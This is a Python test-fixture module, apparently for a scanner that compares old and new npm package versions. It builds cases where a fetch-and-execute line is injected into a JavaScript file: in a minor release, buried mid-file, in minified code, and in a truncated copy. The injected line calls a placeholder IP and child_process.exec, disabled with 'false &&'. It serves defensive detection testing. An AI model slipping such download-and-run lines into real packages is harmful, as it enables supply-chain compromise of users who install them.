"""A script that could all before, and gets lines that fetch and run, or that do neither; and one cut short."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.archives import npm_pair

FIRST = b'const https = require("https");\nconst child = require("child_process");\n'
LINES = "".join(
    f"exports.area{number} = (side) => side * {number};\n" for number in range(60)
).encode()
FETCH = b'false && require("https").get("https://192.0.2.1/inert", (a) => require("child_process").exec("inert"));\n'


def _pair(folder: Path, version: str, text: bytes, before: bytes = b"") -> tuple[Path, Path]:
    old = {"shapes.js": before or FIRST + LINES}
    return npm_pair(folder, version, old, {"shapes.js": text})


def good_lines_that_do_neither(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "1.2.4", FIRST + LINES + b"exports.ring = (one, two) => two - one;\n")


def good_in_a_minor_release(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "1.3.0", FIRST + LINES + FETCH)


def good_written_anew(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "1.2.4", FIRST + LINES.replace(b"side", b"edge") + FETCH)


def bad_one_line_in_the_middle(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, "1.2.4", FIRST + LINES[:900] + b"\n" + FETCH + LINES[900:])


def bad_in_a_minified_script(folder: Path) -> tuple[Path, Path]:
    one = (FIRST + LINES).replace(b"\n", b"")
    return _pair(folder, "1.2.4", one + FETCH, one)


def damaged(folder: Path) -> tuple[Path, Path]:
    old, new = bad_one_line_in_the_middle(folder)
    new.write_bytes(new.read_bytes()[:400])
    return old, new
